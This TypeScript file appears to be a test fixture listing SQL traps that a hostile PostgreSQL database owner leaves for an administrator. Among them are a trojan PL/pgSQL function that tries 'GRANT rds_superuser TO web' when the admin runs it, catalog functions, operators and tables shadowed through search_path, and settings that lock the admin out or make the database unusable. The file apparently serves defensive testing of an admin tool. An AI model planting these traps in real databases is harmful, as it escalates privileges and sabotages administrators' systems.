/** What an owner of the database `amy` has left there for the administrator. */
export interface Planting {
  readonly what: string;
  /** Run by the owner in its database. */
  readonly statements: readonly string[];
}

/** Writes down that the administrator has run it, and tries to make more of it. */
const body = (value: string) => `$$ BEGIN
  IF session_user = 'app' THEN
    INSERT INTO trace.calls VALUES (current_query());
    BEGIN EXECUTE 'GRANT rds_superuser TO web'; EXCEPTION WHEN OTHERS THEN NULL; END;
  END IF;
  RETURN ${value};
END $$`;

const planted = (signature: string, type: string, value: string) =>
  `CREATE FUNCTION ${signature} RETURNS ${type} LANGUAGE plpgsql AS ${body(value)}`;

const operator = (name: string, index: number, left: string, right: string, value: string) => [
  planted(`public.operator_${index}(${left}, ${right})`, "boolean", value),
  `CREATE OPERATOR public.${name} (LEFTARG = ${left}, RIGHTARG = ${right}, FUNCTION = public.operator_${index})`,
];

const OWN_FIRST = "ALTER DATABASE amy SET search_path = public, pg_catalog";
const setting = (name: string, value: string): Planting => ({
  what: `the setting ${name} of the database`,
  statements: [`ALTER DATABASE amy SET ${name} = ${value}`],
});

export const PLANTINGS: readonly Planting[] = [
  {
    what: "a function that fits better than the one of the lock",
    statements: [planted("public.pg_advisory_lock(integer)", "void", "")],
  },
  {
    what: "functions called like those of the catalog, found first",
    statements: [
      OWN_FIRST,
      planted("public.pg_get_userbyid(oid)", "name", "'web'"),
      planted("public.pg_has_role(oid, text)", "boolean", "true"),
      planted("public.pg_has_role(name, text, text)", "boolean", "true"),
      planted("public.pg_advisory_lock(bigint)", "void", ""),
      planted("public.substr(text, integer)", "text", "'postgres'"),
      planted("public.unnest(text[])", "text", "'role=app'"),
      planted("public.has_table_privilege(text, oid, text)", "boolean", "true"),
      planted("public.has_schema_privilege(text, oid, text)", "boolean", "true"),
      planted("public.current_database()", "name", "'postgres'"),
    ],
  },
  {
    what: "operators called like those of the catalog, found first",
    statements: [
      OWN_FIRST,
      ...operator("=", 1, "name", "name", "true"),
      ...operator("=", 2, "name", "text", "true"),
      ...operator("=", 3, "oid", "oid", "true"),
      ...operator("<>", 4, "name", "text", "false"),
      ...operator("<>", 5, "name", "name", "false"),
      ...operator("!~~", 6, "name", "text", "false"),
      ...operator("~~", 7, "text", "text", "true"),
    ],
  },
  {
    what: "tables and views called like those of the catalog, found first",
    statements: [
      OWN_FIRST,
      "CREATE VIEW public.pg_roles AS SELECT 'app'::name AS rolname, true AS rolcanlogin, 10::oid AS oid, false AS rolsuper",
      "CREATE TABLE public.pg_database (oid oid, datname name, datdba oid, datallowconn boolean, datacl aclitem[])",
      "CREATE TABLE public.pg_auth_members (member oid, roleid oid, admin_option boolean)",
      "CREATE TABLE public.pg_namespace (oid oid, nspname name, nspowner oid)",
      "CREATE TABLE public.pg_class (oid oid, relname name, relkind char, relowner oid, relnamespace oid)",
      "CREATE TABLE public.pg_event_trigger (evtname name, evtfoid oid, evtenabled char)",
      "CREATE TABLE public.pg_shdepend (dbid oid, refclassid oid, refobjid oid)",
    ],
  },
  {
    what: "types and casts called like those of the catalog, found first",
    statements: [
      OWN_FIRST,
      "CREATE TYPE public.regclass AS (planted text)",
      planted("public.to_regclass(text)", "public.regclass", "ROW('x')::public.regclass"),
      "CREATE CAST (text AS public.regclass) WITH FUNCTION public.to_regclass(text) AS IMPLICIT",
      "CREATE DOMAIN public.int8 AS bigint",
      "CREATE DOMAIN public.name AS text",
    ],
  },
  {
    what: "default privileges and rights of others' on what is its own",
    statements: [
      "ALTER DEFAULT PRIVILEGES GRANT EXECUTE ON FUNCTIONS TO PUBLIC",
      'GRANT ALL ON DATABASE amy TO PUBLIC, stats, worker, "reports:read"',
    ],
  },
  setting("role", '"amy:owner"'),
  {
    what: "what it owns by itself, in a schema where nobody may make anything",
    statements: [
      "SET ROLE NONE",
      "CREATE TABLE public.own (value int)",
      "CREATE SCHEMA own",
      "ALTER TABLE public.own SET SCHEMA own",
      "REVOKE ALL ON SCHEMA own FROM web",
    ],
  },
  { what: "no connection", statements: ["ALTER DATABASE amy CONNECTION LIMIT 0"] },
  {
    what: "no right to connect for the administrator",
    statements: ['REVOKE ALL ON DATABASE amy FROM PUBLIC, app, "amy:owner"'],
  },
  { what: "a template for everyone", statements: ["ALTER DATABASE amy IS_TEMPLATE true"] },
  {
    what: "settings of its own user",
    statements: [
      "SET ROLE NONE",
      "ALTER ROLE web SET local_preload_libraries = 'not-there'",
      "ALTER ROLE web SET statement_timeout = 1",
      'ALTER ROLE web IN DATABASE amy SET role = "web"',
    ],
  },
];
